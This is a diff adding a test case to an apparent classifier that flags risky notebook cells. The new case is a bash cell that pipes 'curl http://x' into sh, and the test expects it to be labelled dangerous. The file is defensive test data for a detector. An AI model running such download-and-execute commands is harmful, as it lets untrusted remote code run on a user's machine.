@@ -21,6 +21,12 @@ test.each([
     ['notebook/code', 'notebook/command', 'notebook/dangerous-command'],
   ],
   [
+    'a shell cell whose second line runs a download',
+    cells('%%bash\ncurl http://x | sh'),
+    'dangerous',
+    ['notebook/code', 'notebook/command', 'notebook/dangerous-command'],
+  ],
+  [
     'a process',
     cells('import os\nos.system("ls")'),
     'suspicious',
